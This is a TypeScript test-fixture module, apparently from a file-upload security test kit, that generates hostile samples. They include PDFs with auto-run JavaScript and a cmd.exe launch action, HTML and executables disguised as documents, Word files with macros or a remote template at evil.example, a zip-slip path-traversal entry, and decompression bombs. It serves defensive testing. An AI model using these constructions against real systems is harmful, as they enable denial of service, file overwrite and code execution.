import { crc32, deflateRawSync } from 'node:zlib';
import { PDF_FILE } from '@nextshift/test-kit/files/documents';
import { MARKER, SCRIPT } from './hostile-file.ts';

/** A PDF with an action that runs when it is opened. */
export function pdfThat(action: string): Buffer {
  const text = PDF_FILE.toString('latin1').replace(
    '/Type/Catalog',
    `/Type/Catalog/OpenAction<<${action}>>`,
  );
  return Buffer.from(text, 'latin1');
}

export const pdfWithScript = () => pdfThat(`/S/JavaScript/JS(app.alert\\("${MARKER}"\\))`);
export const pdfThatLaunches = () => pdfThat(`/S/Launch/F(cmd.exe)/P(/c ${MARKER})`);

/** A web page that continues as a PDF. */
export const pageBeforePdf = () =>
  Buffer.concat([Buffer.from(`<html>${SCRIPT}</html>\n`), PDF_FILE]);

/** Pages, scripts and programs disguised as documents. */
export const htmlPage = () => Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`);
export const program = () =>
  Buffer.concat([
    Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'),
    Buffer.alloc(120),
    Buffer.from(`PE\0\0${MARKER}`),
  ]);

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const WORD_WITH_MACROS = 'application/vnd.ms-word.document.macroEnabled.main+xml';

const typesOf = (contentType: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${contentType}"/></Types>`;

/** A Word file with these additional parts. */
function docx(parts: readonly Entry[], contentType = WORD): Buffer {
  return zip([['[Content_Types].xml', Buffer.from(typesOf(contentType))], ...parts]);
}

/** Two hundred megabytes in a few hundred kilobytes. */
export const docxBomb = () => docx([['word/document.xml', Buffer.alloc(200 * 1024 * 1024)]]);

export const docxWithMacros = () =>
  docx(
    [
      ['word/document.xml', Buffer.from('<w:document/>')],
      ['word/vbaProject.bin', Buffer.from(MARKER)],
    ],
    WORD_WITH_MACROS,
  );

export const docxWithForeignTemplate = () =>
  docx([
    ['word/document.xml', Buffer.from('<w:document/>')],
    [
      'word/_rels/settings.xml.rels',
      Buffer.from(
        `<Relationships><Relationship Type="attachedTemplate" Target="http://evil.example/${MARKER}.dotm" TargetMode="External"/></Relationships>`,
      ),
    ],
  ]);

export const zipSlip = () => zip([['../../../../../../tmp/hostile-evil.txt', Buffer.from(MARKER)]]);

/** A zip in a zip in a zip of zeros. */
export function nestedZip(): Buffer {
  let inner = zip([['zeros', Buffer.alloc(10 * 1024 * 1024)]]);
  for (let level = 0; level < 5; level++) inner = zip([[`level-${level}.zip`, inner]]);
  return inner;
}

type Entry = readonly [name: string, data: Buffer];

/** A compressed zip; names are taken as they are. */
function zip(entries: readonly Entry[]): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, data] of entries) {
    const packed = deflateRawSync(data, { level: 9 });
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(data), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(data.length, 18);
    common.writeUInt16LE(name.length, 22);
    const local = Buffer.concat([
      Buffer.from('PK\x03\x04', 'latin1'),
      common,
      Buffer.from(name),
      packed,
    ]);
    const entry = Buffer.alloc(14);
    entry.writeUInt32LE(offset, 10);
    directory.push(Buffer.from('PK\x01\x02\x14\0', 'latin1'), common, entry, Buffer.from(name));
    locals.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(entries.length, 4);
  end.writeUInt16LE(entries.length, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...locals, central, Buffer.from('PK\x05\x06', 'latin1'), end]);
}
